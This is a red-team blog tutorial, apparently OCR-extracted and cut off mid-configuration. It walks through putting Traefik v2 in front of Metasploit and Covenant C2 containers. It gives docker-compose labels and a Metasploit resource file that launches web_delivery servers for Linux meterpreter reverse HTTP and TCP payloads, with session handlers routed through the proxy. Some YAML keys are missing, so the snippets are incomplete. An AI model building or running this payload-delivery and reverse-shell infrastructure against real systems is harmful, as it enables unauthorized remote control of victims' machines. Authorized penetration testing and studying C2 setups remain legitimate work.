This blog post’s objective is helping pentesters catch up on recent deployment innovations, solving some traditional pain points thanks to container-based infrastructure.

These modern infrastructures can seamlessly evolve and scale across hosts, servers and even countries. They can be summoned and deployed in a matter of seconds, repeatedly, across the world. They can be continuously changing shape and size, and still transparently route traffic however we want.
We’re doing that last part in this blog post

This kind of infrastructure can do many other things, such as natively load-balancing your handlers, optimizing your implant sessions based on distributedmetrics, streamed across your services.


For now, we want to deploy a more evolved red teaming infrastructure that can dynamically create routes to our C2 Docker containers, instead of manually editing a configuration file every time we want a new route from our reverse-proxy.
We also want it to be easy to scale, and easy to monitor.


The traditional method is to use Apache or NGINX, and use Reverse-Proxy static configurations to map our routes.

In this post, we’re going to use Traefik v2 instead.
Traefik will enable usto easily manage dynamic routes, and deploy C2 containers with smooth forwarding to our payloads and session handlers.

 We’ll first deploy Traefik routing to our Metasploit container, with two different payloads: meterpreter_reverse_ http and meterpreter_reverse_tcp.
 We’ll then run a separate Covenant C2 container, that will spawn a new route to its web UI, payload and session handler.
 We’ll first target Linux with Metasploit, then Windows with Covenant.

Once done, we’ll have an elastic reverse-proxy, functional routes to two different C2 containers with payloads and handlers, and the knowledge to summon many more at will. And a nice route monitoring UI.

Live infrastructure route healthLive HTTP routers to our containers

This post comes after the Metasploit + Socat post.
To follow along, having read the previous post will help, as well as having a grasp on Docker networks and volumes.

We won’t be going into HTTPS related configurations for now. But know that Traefik is also very good at that.To jump to the important parts, look for the small blue diamonds

Setup

This post assumes you’ve already installed Docker. If not, check out official documentation.
The ideal setup is running the Docker host on a VPS somewhere in a data center.
We’ll be pulling several containers, be aware that these can be big.

First, we’re going to create a clean working environment.
Docker supports variables using a .env file, which we’ll create right now to make it easier to modify later on.

 Run the following, replacing “YOUR-C2-EXT-IP” with your actual Docker host external IP:

$ mkdir edgy-c2
$ cd edgy-c2/
$ echo "C2EXTIP=YOUR-C2-EXT-IP" > .env

Using docker-compose

In this post we’re going to configure our desired container states in a yaml file, that docker-compose will then figure out and deploy accordingly.

This makes for much easier, repeatable “it always works” setups.

Since it is a binary, you can simply wget it from the official release page. As of writing the version is 1.25.3, change to latest version in the URL accordingly.

 To install docker-compose:

$ sudo -s # If not running as root
$ curl -L "https://github.com/docker/compose/releases/download/1.25.3/docker-compose-$(uname -s)-$(uname -m)" -o /usr/local/bin/docker-compose
$ chmod +x /usr/local/bin/docker-compose$ docker-compose --version # Check that it is installed correctly. Might need to reload shell

You can read the documentation page for more detailed installation instructions.

When deploying services using docker-compose, it will automatically create a local “bridge” network between spawned containers, named after the parent folder.

Basic docker-compose commands are:

  • up to deploy the docker-compose.yml file in the current working directory
    • or a specific yaml file with -f
  • down to stop the running stack, same rules as upDisplay the detailed list with docker-compose --help.


Traefik is a cloud-native edge router. To quote from their documentation:

What sets Traefik apart, besides its many features, is that it automatically discovers the right configuration for your services. The magic happens when Traefik inspects your infrastructure, where it finds relevant information and discovers which service serves which request. (source)

It’s basically a reverse-proxy on steroids.

Traefik has a few key concepts that need to be understood:

  • EntryPoints: They listen for traffic.
  • Routers: They analyse the request.
  • Providers: They provide configurations to Traefik. Can be from a file, or Docker labels.
  • Services: Where the request is going, translated as [email protected] in Traefik (almost like an email).The following illustration might be scary for newcomers. Keep in mind each block is basically a few lines of configuration.

Cute Traefik Routing overview

You can read about the different components that make Traefik here.

What are we configuring?

Here is a table of the endpoints we’re configuring, with associated ports, Traefik routers and usage:

Traefik EntryPoint Port Traefik Router Usage
web-ep :80 HTTP MSF Delivery, Covenant Delivery, HTTP Sessions, Traefik Web UI
tls-ep :443 TCP Covenant Web UI
tcp-ep :8888 TCP MSF TCP Sessions
  • We’re activating Traefik’s web interface using --api.dashboard=true.

  • We’re telling Traefik to use Docker labels as configuration providers.

  • Both http and tcp routers are used. tcp was recently introduced with Traefik 2.0.

  • We’re defining a route to the web UI from /dashboard, with basic htpasswd authentication (it also needs the /api rule because the UI data is queried to the api in real time).

    • You can use this page to generate your own credentials.
    • We’re using test:test.
    • Note that the $ character must be escaped with another $.
  • Finally, we’re mounting the Docker socket with read-only permissions so Traefik can stay updated on running containers.

 We’re going to create our docker-compose.yml file and start adding Traefik:

$ nano docker-compose.yml

 And add the following:

version: "3.7"


    image: "traefik:v2.1"container_name: "traefik"
      - "--log.level=DEBUG"
      - "--api.dashboard=true"
      - "--accesslog=true"
      - "--providers.docker=true"
      - "--providers.docker.exposedbydefault=false"
      - "--entrypoints.web-ep.address=:80"
      - "--entrypoints.tls-ep.address=:443"
      - "--entrypoints.tcp-ep.address=:8888"
      - "traefik.enable=true"
      - "traefik.http.routers.api.rule=PathPrefix(`/dashboard`) || PathPrefix(`/api`)"
      - "[email protected]"
      -"traefik.http.routers.api.middlewares=auth"
      # test:test
      - "traefik.http.middlewares.auth.basicauth.users=test:$$apr1$$241s8k7o$$W8AhFxO9ctEtjWHbXKsKp0"
      - "80:80"
      - "443:443"
      - "8888:8888"
      - "/var/run/docker.sock:/var/run/docker.sock:ro"

That’s it for Traefik’s main configuration.

The rest of the Traefik configuration will be done using Docker labels, which is just custommeta-data we can add to our containers.


Much like the previous blog post, we’re going to prepare a resource file, and mount it to the Metasploit container. This time, we’re going to use the official, “bleeding-edge” Metasploit container as our main C2.

Since we’re deploying using docker-compose, the containers are going to spawn as services. Docker does not like idle services, and will stop the container.

We’re going to mount an additional script that will be executed when the Metasploit container is launched, simply calling sleep.In our case, we’re sleeping for one day.
This has the advantage of being potentially used as a self-destruct mechanism for your C2. Glass half-full or half-empty, your call

 Run the following:

$ echo -e '#!/bin/bash\nsleep 1d' > sleep.sh ; chmod +x sleep.sh

Our Metasploit resource file will spawn two web_delivery servers:

  • One server delivering the meterpreter_reverse_http from :8080/delivery_http, and spawning a handler on port 4444.
  • One server delivering the meterpreter_reverse_tcp from :8081/delivery_tcp, and spawning a handler on port 4445.

We’re targeting Linux x64 using two different Meterpreter reverse payloads. If you wish to target something else (Windows, OSX), use show targets and show payloads and set the TARGET and PAYLOAD options accordingly.

Alternatively, you may also start ./msfconsole without any resource file and configure it manually.

 Open the new resource file:

$ nano double_delivery.rcHere are the options to set for Metasploit. You can edit and copy them directly to a resource file that we’ll mount to the Metasploit container.

 Copy the following in the file, replacing YOUR-C2-EXT-IP, save and exit:

use exploit/multi/script/web_delivery
show targets
set target 6
set payload linux/x64/meterpreter_reverse_http
set URIPATH delivery_http
set LURI handler
set LPORT 80
set ReverseListenerBindPort 4444
set SRVPORT 8080

set payload linux/x64/meterpreter_reverse_tcp
set URIPATH delivery_tcp
set LPORT 8888
set ReverseListenerBindPort 4445
set SRVPORT 8081

We’ll update the docker-compose.yml file with the Metasploit container.

It’s going to look verbose at first, but these lines are actually describing full-blown routingconfigurations, that Traefik will pick up and update accordingly.

  • We’re mapping our payload delivery routes (HTTP and TCP), and their respective handlers to the entry points we defined earlier: web-ep and tcp-ep.

  • Each router is mapped to its dedicatedservice and destination port.

  • We’re also mounting our sleep.sh and double_delivery.rc files, and using the official “bleeding-edge” Metasploit container.

 Open our previously created docker-compose file:

$ nano docker-compose.yml

 And copy the following after the Traefik service we added earlier:

# ** snip **
# Traefik declaration block above# Note that the msf block is indented

    image: "metasploitframework/metasploit-framework"
    container_name: "msf"
        - ./sleep.sh:/sleep.sh
        - ./double_delivery.rc:/usr/src/metasploit-framework/double_delivery.rc
    command: /sleep.sh
      - "traefik.enable=true"
      # HTTP Payload Delivery - host/delivery_http to msf:8080
      - "traefik.http.routers.msfDelivery.rule=Host(`$C2EXTIP`) && PathPrefix(`/delivery_http`)"
      - "[email protected]"- "traefik.http.routers.msfDelivery.entrypoints=web-ep"
      - "traefik.http.services.msfDelivery.loadbalancer.server.port=8080"
      # TCP Payload Delivery -host/delivery_tcp to msf:8081
